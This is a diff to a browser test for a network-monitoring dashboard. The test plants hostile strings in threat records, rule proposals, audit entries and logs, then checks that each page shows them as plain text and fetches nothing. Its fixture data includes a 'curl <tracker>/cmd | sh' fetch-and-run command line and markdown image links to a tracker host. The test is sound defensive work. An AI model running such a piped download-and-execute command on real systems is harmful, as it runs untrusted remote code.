@@ -27,8 +27,8 @@ from pathlib import Path
 import pytest
 
 from dashboard_seed import seed
-from netsentinel import threats
-from netsentinel.store import ANALYZER_STATUS, BAN_COMMANDS, LLM_CONFIG, RecordsStore
+from netsentinel import audit, proposals, threats
+from netsentinel.store import ANALYZER_STATUS, BAN_COMMANDS, DASHBOARD_LOGS, LLM_CONFIG, RecordsStore
 from netsentinel.testing import dashboard_browser as B
 
 pytestmark = pytest.mark.skipif(B.missing() is not None, reason=B.missing() or "")
@@ -130,6 +130,20 @@ def test_hostile_text_is_shown_as_text_in_the_browser(tmp_path):
             "event": {"daddr": "203.0.113.90", "dport": 443, "comm": f"![c]({tracker.url}/comm.png)",
                       "exe": f"/tmp/{tracker.url}/x", "cmdline": f"curl {tracker.url}/cmd | sh  {evil}"},
             "dedupe_key": "dst|203.0.113.90"})
+        store.write(proposals.RULE_PROPOSALS, [{
+            "id": "evilprop0001", "created_at": "2026-12-01T16:00:00.000000Z", "status": "pending",
+            "backend": f"ollama {tracker.url}", "summary": evil,
+            "trigger": {"kind": "flood", "category": evil, "src": "203.0.113.91"}, "flows": [],
+            "rules": [{"rule": {"action": "drop", "src": "203.0.113.91", "proto": "any", "reason": evil},
+                       "valid": False, "error": evil}]}])
+        store.reject_command({"action": "ban", "ip": evil}, f"refused: {evil}", name="rule_commands.rejected.json")
+        audit.record(store, f"dashboard session {tracker.url}", "ban", {"ip": evil, "reason": evil},
+                     f"refused: {evil}")
+        logs = json.loads((records / DASHBOARD_LOGS).read_text())
+        logs["entries"].append({"id": "evil01", "ts": logs["updated_at"], "level": "HIGH", "category": evil,
+                                "reason": evil, "verdict_source": "llm", "backend": evil,
+                                "event": {"comm": evil, "exe": evil, "daddr": "203.0.113.92", "dport": 80}})
+        store.write(DASHBOARD_LOGS, logs)
         status = json.loads((records / ANALYZER_STATUS).read_text())
         status["backend_status"] = f"error: {evil}"
         store.write(ANALYZER_STATUS, status)
@@ -142,6 +156,8 @@ def test_hostile_text_is_shown_as_text_in_the_browser(tmp_path):
                 page.goto(f"{url}/?token={TOKEN}&page=review")
                 page.get_by_text("Raw threat record").first.wait_for()
                 page.get_by_text(f"curl {tracker.url}/cmd").first.wait_for()  # the evidence block
+                page.get_by_text("Raw threat record").first.click()  # the JSON view, opened
+                page.locator("[data-testid=stJson]").first.wait_for()
                 review_links = page.locator("a[href]").evaluate_all("els => els.map(e => e.href)")
                 review_imgs = page.locator("img[src]").evaluate_all("els => els.map(e => e.src)")
                 body = page.locator("[data-testid=stMain]").inner_text()
@@ -152,10 +168,22 @@ def test_hostile_text_is_shown_as_text_in_the_browser(tmp_path):
                 llm_links = page.locator("a[href]").evaluate_all("els => els.map(e => e.href)")
                 llm_imgs = page.locator("img[src]").evaluate_all("els => els.map(e => e.src)")
                 llm_body = page.locator("[data-testid=stMain]").inner_text()
+                others = {}
+                for name, ready in (("Filter rules", "Proposed by the LLM"), ("Events", "recent events"),
+                                    ("Audit", "The newest"), ("Overview", "Top processes")):
+                    page.locator("[data-testid=stSidebar]").get_by_text(name, exact=True).click()
+                    page.get_by_text(ready).first.wait_for()
+                    for label in ("Rule commands queued",):
+                        if name == "Filter rules":
+                            page.get_by_text(label).first.click()
+                            page.get_by_text("refused", exact=False).first.wait_for()
+                    others[name] = (page.locator("a[href]").evaluate_all("els => els.map(e => e.href)")
+                                    + page.locator("img[src]").evaluate_all("els => els.map(e => e.src)"))
+                page.screenshot(path=str(tmp_path / "overview.png"))
         assert tracker.seen() == []
     where = tracker.url.removeprefix("http://")
     assert [u for u in fetched if where in u] == []
-    for found in (review_links, review_imgs, llm_links, llm_imgs):
+    for found in (review_links, review_imgs, llm_links, llm_imgs, *others.values()):
         assert [u for u in found if where in u or "evil-tracker" in u or "mailto:" in u] == []
     # Shown, as written (the reason, the command line, the model names).
     assert f"![t]({tracker.url}/img.png)" in body and f"curl {tracker.url}/cmd | sh" in body
